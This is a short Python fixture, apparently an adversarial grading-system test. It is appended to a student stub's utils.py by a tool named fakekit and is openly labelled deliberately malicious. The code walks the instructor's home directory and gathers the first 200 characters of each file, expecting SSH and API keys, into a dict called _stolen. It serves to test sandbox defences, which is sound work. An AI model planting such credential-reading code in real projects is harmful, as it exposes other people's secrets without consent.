# ruff: noqa  (adversarial submission: deliberately malicious code)
# Appended to the stub's assignments/utils.py by fakekit.make_submission.

# ADVERSARIAL: read the instructor's home folder (SSH keys, API keys in dotfiles)
import os
import pwd

_home = pwd.getpwuid(os.getuid()).pw_dir
_stolen = {}
try:
    for _name in os.listdir(_home):
        try:
            _stolen[_name] = (Path(_home) / _name).read_text()[:200]
        except OSError:
            pass
except OSError:
    pass
